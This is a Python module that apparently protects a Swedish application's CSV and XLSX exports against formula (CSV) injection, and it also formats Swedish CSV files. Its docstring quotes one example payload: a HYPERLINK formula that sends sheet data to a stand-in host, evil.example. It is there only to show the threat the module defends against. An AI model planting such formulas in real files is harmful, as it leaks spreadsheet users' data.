"""Text cells a spreadsheet will not evaluate: the guard against formula (CSV) injection.

The CSV and XLSX files Samfard writes are opened by analysts and administrators in Excel
or LibreOffice, and many cells hold text someone typed or stored: a KPI comment, a care
unit's name, a carrier's, a scenario's label. A cell that begins with `=`, `+`, `-` or `@`
is read as a formula (a tab or carriage return first is skipped by some programs, and the
formula after it read): `=HYPERLINK("http://evil.example/?x="&A1,"Klicka")` sends the
sheet's data away on a click, and DDE formulas can start programs. As OWASP advises, such
a text begins with a single quote, so the program shows it as text and runs nothing.

A carriage return inside a text is a line feed in the file: Python's csv writer with the
"\n" line ending leaves a field holding only a carriage return unquoted, and Excel and
LibreOffice start a new row at it, so "a\r=1+1" would put the formula first in a cell of
its own. A line feed makes the writer quote the field, and the line break stays in the cell.

A text that is a plain number ("-1234.50", "-12,50": how the writers print amounts) is
left as it is: a spreadsheet reads it as that number, which cannot run anything, and a
negative amount must stay a number for sums to work. Numbers (int, Decimal) are never
passed here; only text cells are.

Every writer of a spreadsheet file passes its text cells through `spreadsheet_text`
(`spreadsheet_row` for a CSV row), so a new export gets the rule by using them; the XLSX
writer (reports/sheet.py) also marks each text cell as a string, so openpyxl never writes
one as a formula. The GTFS-Flex feed (lines/flex.py, geo/gtfs) is not a spreadsheet but
data for journey planners, which would show the quote to travellers: it is not escaped.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\n")  # a carriage return is a "\n" by then
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def spreadsheet_text(text: str) -> str:
    """`text` as a cell a spreadsheet shows and never evaluates: a carriage return is a line
    feed, and "'" goes before a text that starts with = + - @, a tab or a line break,
    unless it is a plain number."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_row(cells: Iterable[object]) -> list[object]:
    """A CSV row with every text cell through `spreadsheet_text`; other cells as they are."""
    return [spreadsheet_text(c) if isinstance(c, str) else c for c in cells]


def kronor_sv(ore: int) -> str:
    """Öre as kronor the way a Swedish spreadsheet reads a number: 123450 -> '1234,50'
    (no thousands separator, which Excel would read as text; exact, no float)."""
    sign = "-" if ore < 0 else ""
    whole, frac = divmod(abs(ore), 100)
    return f"{sign}{whole},{frac:02d}"


# Excel on Windows reads a UTF-8 file without this mark in the local code page
# (Windows-1252), so "Östersund" shows as "Ã–stersund"; with it, Excel reads UTF-8, and
# LibreOffice, pandas and Python's "utf-8-sig" read past it.
UTF8_BOM = "\ufeff"


def excel_csv_bytes(text: str | bytes) -> bytes:
    """A CSV's text (or its UTF-8 bytes) as the bytes of a file Excel opens right: the
    UTF-8 byte order mark first. Every CSV a user downloads gets it here
    (`attachment.attachment`), whichever writer made the text."""
    data = text.encode("utf-8") if isinstance(text, str) else text
    return UTF8_BOM.encode("utf-8") + data


def swedish_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV a Swedish analyst opens in Excel or LibreOffice as it is: semicolons between
    fields (the comma is the decimal sign), decimal commas, dates as ÅÅÅÅ-MM-DD, no cell a
    formula (`spreadsheet_text`). The files for people (the monthly report, the follow-up
    per unit) share it, so they read alike; amounts are passed as text (`kronor_sv`)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(spreadsheet_row(header))
    for row in rows:
        writer.writerow([_swedish_cell(cell) for cell in row])
    return out.getvalue()


def _swedish_cell(cell: object) -> object:
    if cell is None:
        return ""
    if isinstance(cell, Decimal):
        return f"{cell:f}".replace(".", ",")
    if isinstance(cell, date):
        return cell.isoformat()
    if isinstance(cell, str):
        return spreadsheet_text(cell)
    return cell
